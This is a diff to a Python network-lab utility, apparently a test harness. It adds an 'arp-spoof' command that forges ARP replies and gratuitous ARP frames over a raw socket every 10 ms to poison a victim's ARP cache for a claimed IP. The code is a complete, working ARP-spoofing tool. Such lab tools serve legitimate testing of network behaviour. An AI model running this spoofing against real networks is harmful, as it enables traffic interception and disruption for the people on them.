@@ -12,9 +12,16 @@
   net_lab.py tx-csum-off IFACE
       Turn off TX checksum offload on IFACE (what `ethtool -K IFACE tx off`
       does), so the kernel puts complete UDP checksums on the wire.
+  net_lab.py arp-spoof IFACE VICTIM_MAC VICTIM_IP CLAIMED_IP SECONDS
+      Claim CLAIMED_IP for IFACE's MAC at the victim, every 10 ms for
+      SECONDS (or until SIGTERM): an unsolicited reply to the victim, a
+      gratuitous ARP as a request and as a reply, and a request for the
+      victim's address with CLAIMED_IP as its sender. Prints
+      "arp-spoof ROUNDS rounds, FRAMES frames".
 """
 import ctypes
 import fcntl
+import signal
 import socket
 import struct
 import sys
@@ -155,6 +162,34 @@ def tx_csum_off(iface):
         fcntl.ioctl(s.fileno(), SIOCETHTOOL, ifreq)
 
 
+def arp_spoof(iface, victim_mac, victim_ip, claimed_ip, seconds):
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    s.bind((iface, 0))
+    me = s.getsockname()[4][:6]
+    vmac, vip, claimed = mac(victim_mac), ip4(victim_ip), ip4(claimed_ip)
+    bcast, zero = b"\xff" * 6, b"\0" * 6
+
+    def eth(dst, payload):
+        return dst + me + struct.pack("!H", 0x0806) + payload
+
+    frames = [
+        eth(vmac, arp(2, me, claimed, vmac, vip)),       # "claimed is at me", unasked
+        eth(bcast, arp(1, me, claimed, zero, claimed)),  # gratuitous, as a request
+        eth(bcast, arp(2, me, claimed, bcast, claimed)),  # gratuitous, as a reply
+        eth(bcast, arp(1, me, claimed, zero, vip)),      # "who has victim? tell claimed"
+    ]
+    stop = []
+    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
+    rounds = 0
+    end = time.monotonic() + seconds
+    while not stop and time.monotonic() < end:
+        for f in frames:
+            s.send(f)
+        rounds += 1
+        time.sleep(0.01)
+    print("arp-spoof %d rounds, %d frames" % (rounds, rounds * len(frames)), flush=True)
+
+
 def main(argv):
     if len(argv) == 7 and argv[1] == "bad-frames":
         bad_frames(argv[2], argv[3], argv[4], argv[5], int(argv[6]))
@@ -164,6 +199,9 @@ def main(argv):
         return 0
     if len(argv) == 5 and argv[1] == "udp-echo":
         return udp_echo(argv[2], argv[3], int(argv[4]))
+    if len(argv) == 7 and argv[1] == "arp-spoof":
+        arp_spoof(argv[2], argv[3], argv[4], argv[5], float(argv[6]))
+        return 0
     sys.stderr.write(__doc__)
     return 2
 
